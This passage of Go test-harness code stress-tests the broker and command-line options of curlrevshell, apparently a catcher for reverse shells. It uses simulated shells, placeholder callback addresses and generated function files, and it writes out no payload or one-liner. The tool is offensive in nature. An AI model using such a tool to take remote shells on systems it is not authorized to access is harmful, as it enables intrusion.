			r.Count("window_cases_parked_inside_admission", 1)
			r.Count("window_parked_at_"+c.method, 1)
		}
		r.Distinct(fmt.Sprintf("window %s %s#%d %s %v %v", c.kind, c.method, c.nth, c.peer, parked, isAttached))
		if i < 2 {
			r.Sample("window", map[string]any{"case": fmt.Sprintf("%+v", c), "parked": parked, "attached": isAttached, "log_tail": w.Log.Tail(12)})
		}
	})
	r.Floor("window_cases", int64(n))
	r.Floor("window_cases_parked_inside_admission", int64(n/4))
	r.Floor("window_streams_attached_during_shutdown", int64(n/8))
}

package c04

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"math"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// The long-life engine: ONE broker serves well over ten thousand shells, one
// after the other ("the next shell, with any ID, is accepted, indefinitely many
// times in series").  The other engines give a broker at most a few hundred
// shells (the backlog engine a few thousand, not bidirectional ones); whatever a
// broker accumulates per shell — a counter that grows a digit, a table, a
// budget — only shows after many more.  Most shells are bidirectional (they
// are the cheap ones and the ones the broker numbers itself), every sixteenth
// is unidirectional (fully or half attached) with an ID that is short, just over
// 1 KiB, or 1-64 KiB long.
//
// The world is a lean one (no event log is kept: 120,000 shells would not fit):
// the operator's terminal, two event listeners and the slog handler only count.
// Every shell is judged: it is attached (both "New connection" records; a
// refusal or a Connect call that returns instead is the violation), ready
// notice and connected event iff fully attached, every Connect call returns
// after the ending without the transport being closed, and by the time a marker
// line comes out of the operator channel: exactly one gone notice, closure
// notices as in the series engines, no closure notice or shell output after
// the gone notice, one Disconnected record per stream; each listener has exactly
// one disconnected event per shell so far.  A sample (the first shells, every
// 500th, those around the bidirectional ordinals 10^k, the last ones) also gets
// an I/O probe both ways and, after its transports have been closed, the
// goroutine scan.

type llShell struct {
	Kind     string // io full in-only out-only
	OutFirst bool
	IDLen    int
	End      string
	Sampled  bool
	ioOrd    int // bidirectional: how many ConnectInOut calls this broker has seen including this one
}

func (s llShell) sig() string {
	return fmt.Sprintf("longlife %s of=%v id=%d end=%s sampled=%v", s.Kind, s.OutFirst, s.IDLen, s.End, s.Sampled)
}

type llItem struct {
	data string
	err  error
}

type llReader struct {
	ch     chan llItem
	closed chan struct{}
	once   sync.Once
}

func newLLReader() *llReader { return &llReader{ch: make(chan llItem, 4), closed: make(chan struct{})} }

func (r *llReader) Read(p []byte) (int, error) {
	select {
	case it := <-r.ch:
		return copy(p, it.data), it.err
	case <-r.closed:
		return 0, io.ErrClosedPipe
	}
}
func (r *llReader) close() { r.once.Do(func() { close(r.closed) }) }

type llWriter struct {
	w    *llWorld
	fail atomic.Bool
	mu   sync.Mutex
	last string
}

func (x *llWriter) Write(p []byte) (int, error) {
	if x.fail.Load() {
		return 0, bk.ErrInjected
	}
	x.mu.Lock()
	x.last = string(p)
	x.mu.Unlock()
	x.w.poke()
	return len(p), nil
}
func (x *llWriter) got(line string) bool {
	x.mu.Lock()
	defer x.mu.Unlock()
	return strings.Contains(x.last, line)
}

type llFlushWriter struct{ *llWriter }

func (llFlushWriter) Flush() {}

type llCounts struct {
	ready, gone, closedIn, closedOut, connNotice, other, plain int
	closureAfterGone, plainAfterGone                           bool
	tokSeen                                                    bool
	nNew, nDisc, nRefused, returned                            int
	refusedMsg                                                 string
	mark                                                       string
}

type llWorld struct {
	b    *iobroker.Broker
	ich  chan string
	och  chan opshell.CLine
	sig  chan struct{}
	quit chan struct{}
	done chan struct{}

	mu   sync.Mutex
	c    llCounts
	tok  string
	tail []string
	conn [2]int
	disc [2]int
	lst  [2]chan iobroker.Event

	doCancel context.CancelFunc
	doDone   chan struct{}
}

func (w *llWorld) poke() {
	select {
	case w.sig <- struct{}{}:
	default:
	}
}

// await waits (bounded) until cond, evaluated with the counters locked, holds.
func (w *llWorld) await(cond func() bool) bool {
	t := time.NewTimer(bk.Bound)
	defer t.Stop()
	for {
		w.mu.Lock()
		ok := cond()
		w.mu.Unlock()
		if ok {
			return true
		}
		select {
		case <-w.sig:
		case <-t.C:
			w.mu.Lock()
			ok := cond()
			w.mu.Unlock()
			return ok
		}
	}
}

func cut(s string, n int) string {
	if len(s) > n {
		return s[:n] + fmt.Sprintf("…(%d bytes)", len(s))
	}
	return s
}

func (w *llWorld) terminal() {
	defer close(w.done)
	for {
		var cl opshell.CLine
		select {
		case cl = <-w.och:
		case <-w.quit:
			return
		}
		w.mu.Lock()
		c := &w.c
		switch {
		case !cl.Plain && strings.HasPrefix(cl.Line, "LL-MARK-"):
			c.mark = cl.Line
		case cl.Plain:
			c.plain++
			if c.gone > 0 {
				c.plainAfterGone = true
			}
			if w.tok != "" && strings.Contains(cl.Line, w.tok) {
				c.tokSeen = true
			}
		case strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage):
			c.gone++
		case strings.Contains(cl.Line, iobroker.ShellReadyMessage):
			c.ready++
		case closedRe.MatchString(cl.Line):
			if closedRe.FindStringSubmatch(cl.Line)[1] == "Input" {
				c.closedIn++
			} else {
				c.closedOut++
			}
			if c.gone > 0 {
				c.closureAfterGone = true
			}
		case strings.Contains(cl.Line, "connected: ID"):
			c.connNotice++
		default:
			c.other++
		}
		if len(w.tail) >= 16 {
			w.tail = w.tail[1:]
		}
		pl := ""
		if cl.Plain {
			pl = "(shell output) "
		}
		w.tail = append(w.tail, pl+cut(cl.Line, 160))
		w.mu.Unlock()
		w.poke()
	}
}

type llHandler struct{ w *llWorld }

func (h llHandler) Enabled(context.Context, slog.Level) bool { return true }
func (h llHandler) Handle(_ context.Context, r slog.Record) error {
	h.w.mu.Lock()
	switch {
	case r.Message == bk.MsgNew:
		h.w.c.nNew++
	case r.Message == bk.MsgDisconnected:
		h.w.c.nDisc++
	case r.Level >= slog.LevelError:
		h.w.c.nRefused++
		h.w.c.refusedMsg = r.Message
	}
	h.w.mu.Unlock()
	h.w.poke()
	return nil
}
func (h llHandler) WithAttrs([]slog.Attr) slog.Handler { return h }
func (h llHandler) WithGroup(string) slog.Handler      { return h }

func newLLWorld() (*llWorld, error) {
	w := &llWorld{
		ich:    make(chan string, 4),
		och:    make(chan opshell.CLine, 64),
		sig:    make(chan struct{}, 1),
		quit:   make(chan struct{}),
		done:   make(chan struct{}),
		doDone: make(chan struct{}),
	}
	b, err := iobroker.New(w.ich, w.och)
	if err != nil {
		return nil, err
	}
	w.b = b
	for i := range w.lst {
		w.lst[i] = make(chan iobroker.Event, iobroker.EVChanLen)
		b.AddEventListener(w.lst[i])
		go func(i int) {
			for ev := range w.lst[i] {
				w.mu.Lock()
				switch ev.Type {
				case iobroker.EventTypeConnected:
					w.conn[i]++
				case iobroker.EventTypeDisconnected:
					w.disc[i]++
				}
				w.mu.Unlock()
				w.poke()
			}
		}(i)
	}
	ctx, cancel := context.WithCancel(context.Background())
	w.doCancel = cancel
	go func() { b.Do(ctx); close(w.doDone) }()
	go w.terminal()
	return w, nil
}

// llPlan lists the shells of broker idx's life.
func llPlan(r *mon.Run, idx int) []llShell {
	total := 12000
	if idx == 0 {
		total = r.N(12000, 120000)
	}
	rng := r.Rng("longlife", idx)
	shells := make([]llShell, total)
	ioOrd := 0
	for k := range shells {
		s := llShell{Kind: "io", OutFirst: rng.IntN(2) == 1}
		uni := k%16 == 7
		if idx > 0 {
			uni = k%16 == 7 || rng.IntN(8) < 3 // the other lives: a good third unidirectional
		}
		if uni {
			s.Kind = []string{"full", "full", "in-only", "out-only"}[rng.IntN(4)]
			switch rng.IntN(3) {
			case 0:
				s.IDLen = 8 + rng.IntN(33)
			case 1: // just over the length of anything the broker makes up itself
				s.IDLen = 1025 + rng.IntN(76)
			case 2: // 1 KiB - 64 KiB, every octave alike
				s.IDLen = int(1024 * math.Pow(2, 6*rng.Float64()))
			}
		}
		var ends []string
		switch s.Kind {
		case "io":
			ends = []string{"out-eof", "out-eof", "out-eof", "cancel", "cancel", "out-err", "out-dataeof", "in-werr"}
		case "full":
			ends = []string{"out-eof", "out-err", "out-dataeof", "out-cancel", "in-cancel", "in-werr"}
		case "in-only":
			ends = []string{"in-cancel", "in-werr"}
		case "out-only":
			ends = []string{"out-eof", "out-err", "out-cancel"}
		}
		s.End = ends[rng.IntN(len(ends))]
		if s.Kind == "io" {
			ioOrd++
			s.ioOrd = ioOrd
			for p := 10; p <= 1000000; p *= 10 {
				if ioOrd >= p-3 && ioOrd <= p+3 {
					s.Sampled = true
				}
			}
		}
		if k < 20 || k%500 == 0 || k >= total-5 {
			s.Sampled = true
		}
		shells[k] = s
	}
	return shells
}

func llBrokers(r *mon.Run) int { return r.N(1, 4) }

// longLifeCases runs every long life in a child process of its own (the
// goroutine scan needs a process in which nothing else uses the broker
// package), next to the other engines.
func longLifeCases(r *mon.Run) {
	n := llBrokers(r)
	mon.Parallel(n, n, func(i int) {
		if !r.Want("longlife", i) {
			return
		}
		res, err := r.RunChild("", "c04serial", 60*time.Minute, fmt.Sprint(i), fmt.Sprint(n), "longlife")
		if err != nil {
			r.Violate("longlife", i, "child-died", fmt.Sprintf("long-life child %d died: %v; stderr: %s", i, err, tailS(res.Stderr)), nil)
		}
	})
	r.Logf("longlife done: %d shells, %d of them bidirectional on broker 0", r.Counter("longlife_shells_judged"), r.Counter("longlife_bidirectional_shells_served_by_broker_0"))
	if r.Replaying() {
		return
	}
	total, io0 := 0, 0
	for i := 0; i < n; i++ {
		for _, s := range llPlan(r, i) {
			total++
			if i == 0 && s.Kind == "io" {
				io0++
			}
		}
	}
	r.Floor("longlife_brokers_served_their_whole_life", int64(n))
	r.Floor("longlife_shells_judged", int64(total))
	// well beyond 10^4 (thorough: 10^5) bidirectional shells on one broker
	r.Floor("longlife_bidirectional_shells_served_by_broker_0", int64(io0))
	r.Floor("longlife_bidirectional_shells_served_by_broker_0", int64(r.N(10500, 105000)))
	r.Floor("longlife_shells_with_full_judgement", int64(r.N(60, 300)))
	r.Floor("longlife_leak_scans", int64(r.N(60, 300)))
	r.Floor("longlife_unidirectional_shells_with_id_of_1_to_64_KiB", int64(r.N(150, 1500)))
	r.Floor("longlife_unidirectional_shells_with_id_just_over_1_KiB", int64(r.N(150, 1500)))
}

// longLife is one broker's life.
func longLife(r *mon.Run, idx int, leak bool) {
	const engine = "longlife"
	shells := llPlan(r, idx)
	w, err := newLLWorld()
	if err != nil {
		r.Inconclusive(err.Error())
		return
	}
	var cur llShell
	k := 0
	bad := false
	viol := func(key, what string) {
		w.mu.Lock()
		wit := map[string]any{"broker": idx, "shell_number": k, "shell": fmt.Sprintf("%+v", cur), "bidirectional_ordinal": cur.ioOrd, "counters": fmt.Sprintf("%+v", w.c), "last_operator_lines": append([]string(nil), w.tail...)}
		w.mu.Unlock()
		r.Violate(engine, idx, key, fmt.Sprintf("shell %d of broker %d's life (%+v): %s", k, idx, cur, what), wit)
		bad = true
	}
	// a shell that was refused outright (nothing of it attached) leaves the broker as it was: it is
	// reported (twice per kind of shell at most) and the life goes on, so that a later, different
	// refusal is not hidden behind it; after 25 refusals in a row the life is abandoned
	refusedOutright := map[string]int{}
	skip, inARow, nServed := false, 0, 0
	refusal := func(class, what string) {
		refusedOutright[class]++
		if refusedOutright[class] <= 2 {
			viol("fresh-shell-refused", what)
			bad = false
		} else {
			r.Count("longlife_further_refusals_not_reported_one_by_one", 1)
		}
		skip = true
		if inARow++; inARow >= 25 {
			bad = true
		}
	}
	sl := slog.New(llHandler{w})
	nFull := 0
	nIO := 0
	for k = 0; k < len(shells) && !bad; k++ {
		cur = shells[k]
		s := cur
		r.Eval(1)
		r.Distinct(s.sig())
		w.mu.Lock()
		w.c = llCounts{}
		w.tok = ""
		w.mu.Unlock()
		addr := fmt.Sprintf("ll-%d.test", k)
		id := ""
		if s.Kind != "io" {
			id = fmt.Sprintf("ll-%d-%d-", idx, k)
			if len(id) < s.IDLen {
				id += strings.Repeat(string(rune('a'+k%26)), s.IDLen-len(id))
			}
		}
		wr := &llWriter{w: w}
		var iw io.Writer = wr
		if k%2 == 1 {
			iw = llFlushWriter{wr}
		}
		rd := newLLReader()
		nCalls, nStreams := 0, 0
		hasIn, hasOut := s.Kind != "out-only", s.Kind != "in-only"
		full := hasIn && hasOut
		ret := func() {
			w.mu.Lock()
			w.c.returned++
			w.mu.Unlock()
			w.poke()
		}
		ctxIn, cancelIn := context.WithCancel(context.Background())
		ctxOut, cancelOut := context.WithCancel(context.Background())
		accepted := func(what string) bool {
			want := nStreams
			w.await(func() bool { return w.c.nNew >= want || w.c.returned > 0 || w.c.nRefused > 0 })
			w.mu.Lock()
			got, refused, msg := w.c.nNew, w.c.nRefused, w.c.refusedMsg
			w.mu.Unlock()
			if got >= want && refused == 0 {
				return true
			}
			why := "its Connect call neither attached it nor returned"
			if refused > 0 {
				why = fmt.Sprintf("the broker refused it (%q)", msg)
			} else if got < want {
				why = "its Connect call returned without attaching it"
			}
			msgText := fmt.Sprintf("%s was not accepted although the previous shell is completely gone: %s (%d of %d streams attached)", what, why, got, want)
			if got == 0 {
				refusal(s.Kind, msgText)
			} else {
				viol("fresh-shell-refused", msgText)
			}
			return false
		}
		switch s.Kind {
		case "io":
			nIO++
			nCalls, nStreams = 1, 2
			go func() { w.b.ConnectInOut(ctxIn, sl, addr, iw, rd); ret() }()
			accepted(fmt.Sprintf("the bidirectional shell (the broker's %d. bidirectional connection)", s.ioOrd))
		default:
			startIn := func() { nCalls++; nStreams++; go func() { w.b.ConnectIn(ctxIn, sl, addr, iw, id); ret() }() }
			startOut := func() { nCalls++; nStreams++; go func() { w.b.ConnectOut(ctxOut, sl, addr, rd, id); ret() }() }
			order := []func(){startIn, startOut}
			if s.OutFirst {
				order = []func(){startOut, startIn}
			}
			if !hasIn {
				order = []func(){startOut}
			} else if !hasOut {
				order = []func(){startIn}
			}
			for _, f := range order {
				f()
				if !accepted(fmt.Sprintf("a stream of the unidirectional shell with an ID of %d bytes", len(id))) {
					break
				}
			}
		}
		cleanup := func() {
			cancelIn()
			cancelOut()
			rd.close()
		}
		if skip {
			// nothing of it was attached; its calls must have returned or return now
			skip = false
			cleanup()
			want := nCalls
			if !w.await(func() bool { return w.c.returned >= want }) {
				viol("refused-attempt-not-ended", "the shell was refused but its Connect call did not return")
			}
			if bad {
				break
			}
			continue
		}
		if bad {
			cleanup()
			break
		}
		inARow = 0
		if full {
			nFull++
			wantConn := nFull
			if !w.await(func() bool { return w.c.ready >= 1 && w.conn[0] >= wantConn && w.conn[1] >= wantConn }) {
				w.mu.Lock()
				rdy := w.c.ready
				w.mu.Unlock()
				if rdy == 0 {
					viol("ready-notices-0-want-1", "both directions are attached but no ready notice was displayed")
				} else {
					viol("connected-event-missing", "both directions are attached but not every listener received the connected event")
				}
				cleanup()
				break
			}
		}
		if s.Sampled {
			if hasOut {
				tok := fmt.Sprintf("LL<%d.%d>;", idx, k)
				w.mu.Lock()
				w.tok = tok
				w.mu.Unlock()
				rd.ch <- llItem{data: tok}
				if !w.await(func() bool { return w.c.tokSeen }) {
					viol("live-output-not-shown", "probe chunk of the attached output was not shown to the operator")
					cleanup()
					break
				}
			}
			if hasIn {
				line := fmt.Sprintf("LL-LINE-%d-%d", idx, k)
				w.ich <- line
				if !w.await(func() bool { return wr.got(line) }) {
					viol("live-input-not-fed", "probe line did not reach the attached input")
					cleanup()
					break
				}
			}
		}
		// ---- the ending ----
		switch s.End {
		case "out-eof":
			rd.ch <- llItem{err: io.EOF}
		case "out-err":
			rd.ch <- llItem{err: bk.ErrInjected}
		case "out-dataeof":
			rd.ch <- llItem{data: "bye;", err: io.EOF}
		case "cancel", "in-cancel":
			cancelIn()
		case "out-cancel":
			cancelOut()
		case "in-werr":
			wr.fail.Store(true)
			w.ich <- "LINE-LOST"
		}
		want := nCalls
		if !w.await(func() bool { return w.c.returned >= want }) {
			viol("connect-does-not-return", fmt.Sprintf("after %s not every Connect call of the shell returned", s.End))
			cleanup()
			break
		}
		mark := fmt.Sprintf("LL-MARK-%d-%d", idx, k)
		w.och <- opshell.CLine{Line: mark}
		if !w.await(func() bool { return w.c.mark == mark }) {
			r.Inconclusive(fmt.Sprintf("longlife %d: marker line of shell %d not seen on the operator channel", idx, k))
			bad = true
		}
		if bad {
			cleanup()
			break
		}
		// ---- the judgement ----
		nServed++
		wantDisc := nServed
		evOK := w.await(func() bool {
			return w.disc[0] >= wantDisc && w.disc[1] >= wantDisc
		})
		w.mu.Lock()
		c := w.c
		disc, conn := w.disc, w.conn
		w.mu.Unlock()
		wantReady := 0
		if full {
			wantReady = 1
		}
		switch {
		case c.gone != 1:
			viol(fmt.Sprintf("gone-notices-%d", c.gone), fmt.Sprintf("%d shell-is-gone notices instead of exactly one", c.gone))
		case c.ready != wantReady:
			viol(fmt.Sprintf("ready-notices-%d-want-%d", c.ready, wantReady), fmt.Sprintf("%d ready notices, expected %d", c.ready, wantReady))
		case s.Kind != "io" && (c.closedIn != b2i(hasIn) || c.closedOut != b2i(hasOut)):
			viol(fmt.Sprintf("closure-notices-%d-want-%d", c.closedIn+c.closedOut, nStreams), fmt.Sprintf("closure notices: %d input, %d output; expected one per attached direction (%d)", c.closedIn, c.closedOut, nStreams))
		case c.closedIn > 1 || c.closedOut > 1:
			viol("closure-notices-doubled", fmt.Sprintf("closure notices: %d input, %d output; expected at most one per direction", c.closedIn, c.closedOut))
		case c.closureAfterGone:
			viol("closure-notice-after-gone", "a closure notice was displayed after the shell-is-gone notice")
		case c.plainAfterGone:
			viol("output-after-gone", "shell output was displayed after the shell-is-gone notice")
		case c.nDisc != nStreams:
			viol(fmt.Sprintf("disconnected-records-%d", c.nDisc), fmt.Sprintf("%d Disconnected log records for %d attached streams", c.nDisc, nStreams))
		case !evOK:
			viol("disconnected-event-missing", fmt.Sprintf("the listeners have received %v disconnected events after %d shells", disc, nServed))
		case disc[0] != wantDisc || disc[1] != wantDisc:
			viol(fmt.Sprintf("disconnected-events-%d-want-%d", disc[0]+disc[1]-2*wantDisc, 0), fmt.Sprintf("the listeners have received %v disconnected events after %d shells", disc, nServed))
		case conn[0] != nFull || conn[1] != nFull:
			viol("connected-events-miscount", fmt.Sprintf("the listeners have received %v connected events after %d fully attached shells", conn, nFull))
		}
		cleanup()
		if bad {
			break
		}
		r.Count("longlife_shells_judged", 1)
		if s.Kind == "io" {
			r.Count(fmt.Sprintf("longlife_bidirectional_shells_served_by_broker_%d", idx), 1)
		} else {
			r.Count("longlife_unidirectional_shells", 1)
			switch {
			case len(id) >= 2048 || s.IDLen >= 1101:
				r.Count("longlife_unidirectional_shells_with_id_of_1_to_64_KiB", 1)
			case len(id) > 1024:
				r.Count("longlife_unidirectional_shells_with_id_just_over_1_KiB", 1)
			}
			if len(id) > 32*1024 {
				r.Count("longlife_unidirectional_shells_with_id_over_32_KiB", 1)
			}
		}
		r.Count("longlife_ending:"+s.Kind+":"+s.End, 1)
		if s.Sampled {
			r.Count("longlife_shells_with_full_judgement", 1)
			if leak {
				var left []string
				for i := 0; i < 500; i++ {
					left = iobGoroutines()
					if len(left) == 0 {
						break
					}
					runtime.Gosched()
					time.Sleep(time.Duration(i/10+1) * time.Millisecond)
				}
				r.Count("longlife_leak_scans", 1)
				for _, st := range left {
					viol(leakKey(st), "after the shell ended, every Connect returned and the transports were closed, a goroutine is still inside the broker:\n"+st)
				}
			}
		}
	}
	// ---- the end of the life ----
	if !bad {
		time.Sleep(5 * time.Millisecond) // an extra event would be right behind
		w.mu.Lock()
		disc, conn := w.disc, w.conn
		w.mu.Unlock()
		if disc[0] != nServed || disc[1] != nServed || conn[0] != nFull || conn[1] != nFull {
			k--
			viol("events-miscount-at-end-of-long-life", fmt.Sprintf("after %d shells (%d fully attached) the listeners have received %v connected and %v disconnected events", nServed, nFull, conn, disc))
		}
	}
	w.doCancel()
	select {
	case <-w.doDone:
		if !bad && nServed == len(shells) {
			r.Count("longlife_brokers_served_their_whole_life", 1)
		}
	case <-time.After(bk.Bound):
		if !bad {
			k = len(shells) - 1
			viol("shutdown-does-not-finish", "Do did not return although every attached stream has ended")
		}
	}
	for i := range w.lst {
		w.b.RemoveEventListener(w.lst[i])
		close(w.lst[i])
	}
	close(w.quit)
	<-w.done
	r.Count("longlife_brokers", 1)
	if idx == 0 {
		r.Sample(engine, map[string]any{"broker": idx, "shells": len(shells), "bidirectional": nIO, "fully_attached": nFull, "first_shells": fmt.Sprintf("%+v", shells[:8])})
	}
}

func b2i(b bool) int {
	if b {
		return 1
	}
	return 0
}

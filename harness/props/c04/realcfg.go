package c04

// Engine "realcfg": the REAL BINARY (main's wiring included) on a pty, fake
// shells over raw TLS, under the program's documented configuration options -
// each alone and in pairs.  Per program instance: a SERIES of shells judged
// like the httpserial generations (accepted, I/O probe both ways, closure
// notices, exactly one gone notice, callback help once, every stream
// disconnected, requests ended without further traffic, the next shell is
// accepted), then a SHUTDOWN (Ctrl+D / Ctrl+C) with a shell attached - in two
// cases out of three with a stream that cannot end at once: the client has
// stopped reading while one big Ctrl+I insertion is being written to it.  The
// process must still be there when the client hangs up 3-8 s later, finish
// once it has, and (with a log) every attached stream's Disconnected record
// must precede "Program terminating".

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/ptyx"
)

const realEngine = "realcfg"

// rcOpts are the options of the matrix that can be combined freely (every one
// alone, every pair).  -one-shell and -icanhazip are added separately: the
// first allows one shell per program, the second ends the program at start-up
// where there is no network.
var rcOpts = []string{"ipv6-one-liners", "no-timestamps", "serve-files-from", "callback-address", "callback-template", "ctrl-i", "log", "prompt", "tls-certificate-cache"}

type rcCase struct {
	kind string   // series | oneshell-series | oneshell-shutdown | nostart
	opts []string // the matrix cell (without one-shell / icanhazip, which kind implies or names)
	tag  string   // counter name of the cell
}

func rcCell(kind string, opts ...string) rcCase {
	all := append([]string{}, opts...)
	switch kind {
	case "oneshell-series", "oneshell-shutdown":
		all = append([]string{"one-shell"}, all...)
	}
	tag := strings.Join(all, "+")
	if tag == "" {
		tag = "default"
	}
	return rcCase{kind: kind, opts: opts, tag: tag}
}

// rcCases is the deterministic case list: per round the default configuration,
// every option alone, every pair, -icanhazip alone and with one more option,
// -one-shell (shutdown) alone and with every other option, -one-shell
// (single-shell series) alone and with three more.
func rcCases(r *mon.Run) []rcCase {
	var out []rcCase
	rounds := r.N(1, 3)
	for round := 0; round < rounds; round++ {
		out = append(out, rcCell("series"))
		for _, o := range rcOpts {
			out = append(out, rcCell("series", o))
		}
		for a := 0; a < len(rcOpts); a++ {
			for b := a + 1; b < len(rcOpts); b++ {
				out = append(out, rcCell("series", rcOpts[a], rcOpts[b]))
			}
		}
		k := (int(r.Seed) + round) % len(rcOpts)
		if k < 0 {
			k += len(rcOpts)
		}
		out = append(out, rcCase{kind: "nostart", opts: []string{"icanhazip"}, tag: "icanhazip"})
		out = append(out, rcCase{kind: "nostart", opts: []string{"icanhazip", rcOpts[k]}, tag: "icanhazip+" + rcOpts[k]})
		out = append(out, rcCell("oneshell-shutdown"))
		for _, o := range rcOpts {
			out = append(out, rcCell("oneshell-shutdown", o))
		}
		out = append(out, rcCell("oneshell-series"))
		for j := 0; j < 3; j++ {
			out = append(out, rcCell("oneshell-series", rcOpts[(k+3*j)%len(rcOpts)]))
		}
	}
	return out
}

// rcCfg is a built configuration.
type rcCfg struct {
	args     []string
	env      []string
	variants []string
	logPath  string // effective log file ("" = none)
	ctrlI    string // Ctrl+I source ("" = none)
	ctrlIBig bool
	files    string // a target that the file server must be able to serve ("" = none)
	oneShell bool
}

// spell appends a flag in one of its documented spellings.
func (c *rcCfg) spell(rng *rand.Rand, name, value string) {
	dash := []string{"-", "--"}[rng.IntN(2)]
	if rng.IntN(2) == 0 {
		c.args = append(c.args, dash+name+"="+value)
	} else {
		c.args = append(c.args, dash+name, value)
	}
}

func (c *rcCfg) spellBool(rng *rand.Rand, name string) {
	c.args = append(c.args, []string{"-" + name, "--" + name, "-" + name + "=true", "--" + name + "=1"}[rng.IntN(4)])
}

const rcBigFirst = "c04big_first_line"

var (
	rcBigOnce sync.Once
	rcBigPath string
	rcBigErr  error
)

// rcBigSource writes (once per run) a shell-functions file of about 14 MB; the
// cases hard-link it under their own names.
func rcBigSource(r *mon.Run) (string, error) {
	rcBigOnce.Do(func() {
		d := filepath.Join(r.Work, "rc-shared")
		if rcBigErr = os.MkdirAll(d, 0o755); rcBigErr != nil {
			return
		}
		var b strings.Builder
		b.Grow(15 << 20)
		b.WriteString("# " + rcBigFirst + "\nc04big() { echo c04big; }\n")
		pad := strings.Repeat("p", 96)
		for i := 0; b.Len() < 14<<20; i++ {
			fmt.Fprintf(&b, ": %07d %s\n", i, pad)
		}
		rcBigPath = filepath.Join(d, "big.sh")
		rcBigErr = os.WriteFile(rcBigPath, []byte(b.String()), 0o644)
	})
	return rcBigPath, rcBigErr
}

func rcLinkOrCopy(src, dst string) error {
	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
		return err
	}
	if err := os.Link(src, dst); err == nil {
		return nil
	}
	b, err := os.ReadFile(src)
	if err != nil {
		return err
	}
	return os.WriteFile(dst, b, 0o644)
}

// rcBuild turns a matrix cell into arguments, environment and files.  needBig:
// the shutdown of this case needs a Ctrl+I source of many megabytes (added as
// part of the base configuration when the cell has no -ctrl-i of its own).
func rcBuild(r *mon.Run, rng *rand.Rand, c rcCase, dir, home string, needBig bool) (*rcCfg, error) {
	cfg := &rcCfg{}
	cfg.args = append(cfg.args, [][]string{{"-listen-address", "127.0.0.1:0"}, {"-listen-address=127.0.0.1:0"}, {"--listen-address", "127.0.0.1:0"}}[rng.IntN(3)]...)
	has := map[string]bool{}
	for _, o := range c.opts {
		has[o] = true
	}
	if !has["tls-certificate-cache"] {
		cfg.args = append(cfg.args, "-tls-certificate-cache", "")
	}
	write := func(p, content string) error {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		return os.WriteFile(p, []byte(content), 0o644)
	}
	note := func(o, v string) { cfg.variants = append(cfg.variants, o+"="+v) }
	ctrlI := func() error {
		kinds := []string{"file", "directory", "percent-name", "space-name"}
		if !needBig {
			kinds = append(kinds, "missing", "small-file")
		}
		k := kinds[rng.IntN(len(kinds))]
		big, err := rcBigSource(r)
		if err != nil {
			return err
		}
		var p string
		switch k {
		case "file":
			p = filepath.Join(dir, "src", "funcs.sh")
			err = rcLinkOrCopy(big, p)
		case "directory":
			p = filepath.Join(dir, "src.d")
			if err = write(filepath.Join(p, "a_small.sh"), "c04small() { echo small; }\n"); err == nil {
				err = rcLinkOrCopy(big, filepath.Join(p, "b_big.sh"))
			}
		case "percent-name":
			p = filepath.Join(dir, "src", "100%s %d funcs%.sh")
			err = rcLinkOrCopy(big, p)
		case "space-name":
			p = filepath.Join(dir, "src", " my funcs .sh")
			err = rcLinkOrCopy(big, p)
		case "missing":
			p = filepath.Join(dir, "src", "not-there.sh")
		case "small-file":
			p = filepath.Join(dir, "src", "small.sh")
			err = write(p, "c04small() { echo small; }\n")
		}
		if err != nil {
			return err
		}
		cfg.ctrlI, cfg.ctrlIBig = p, k != "missing" && k != "small-file"
		cfg.spell(rng, "ctrl-i", p)
		note("ctrl-i", k)
		return nil
	}
	for _, o := range c.opts {
		switch o {
		case "ipv6-one-liners", "no-timestamps":
			cfg.spellBool(rng, o)
		case "icanhazip":
			cfg.spellBool(rng, o)
		case "serve-files-from":
			d := filepath.Join(dir, "files")
			if err := write(filepath.Join(d, "hello.txt"), "hello from c04\n"); err != nil {
				return nil, err
			}
			write(filepath.Join(d, "sub", "x.bin"), strings.Repeat("x", 5000))
			k := []string{"directory", "single-file", "empty", "relative-dotdot", "symlink", "spaces-at-edges"}[rng.IntN(6)]
			v := d
			cfg.files = "/hello.txt"
			switch k {
			case "single-file":
				v = filepath.Join(d, "hello.txt")
				cfg.files = "/whatever"
			case "empty":
				v, cfg.files = "", ""
			case "relative-dotdot": // the program's working directory is home
				v = "../home/.././files"
			case "symlink":
				v = filepath.Join(dir, "files-link")
				if err := os.Symlink(d, v); err != nil {
					return nil, err
				}
			case "spaces-at-edges":
				v = filepath.Join(dir, " files ")
				if err := write(filepath.Join(v, "hello.txt"), "hello from c04\n"); err != nil {
					return nil, err
				}
			}
			cfg.spell(rng, "serve-files-from", v)
			note(o, k)
		case "callback-address":
			k := []string{"one-name", "one-with-port", "dozens", "same-twice"}[rng.IntN(4)]
			switch k {
			case "one-name":
				cfg.spell(rng, o, "shells.example.com")
			case "one-with-port":
				cfg.spell(rng, o, "10.9.8.7:8443")
			case "dozens":
				for j := 0; j < 24+rng.IntN(24); j++ {
					cfg.spell(rng, o, fmt.Sprintf("cb%d.example.com", j))
				}
			case "same-twice":
				cfg.spell(rng, o, "twice.example.com")
				cfg.spell(rng, o, "twice.example.com")
			}
			note(o, k)
		case "callback-template":
			k := []string{"regular-file", "symlink", "missing"}[rng.IntN(3)]
			p := filepath.Join(dir, "tmpl", "cb.tmpl")
			switch k {
			case "regular-file":
				if err := write(p, hsrv.DefaultTemplate+"\n# c04 template\n"); err != nil {
					return nil, err
				}
			case "symlink":
				t := filepath.Join(dir, "tmpl", "real.tmpl")
				if err := write(t, hsrv.DefaultTemplate+"\n# c04 template\n"); err != nil {
					return nil, err
				}
				if err := os.Symlink(t, p); err != nil {
					return nil, err
				}
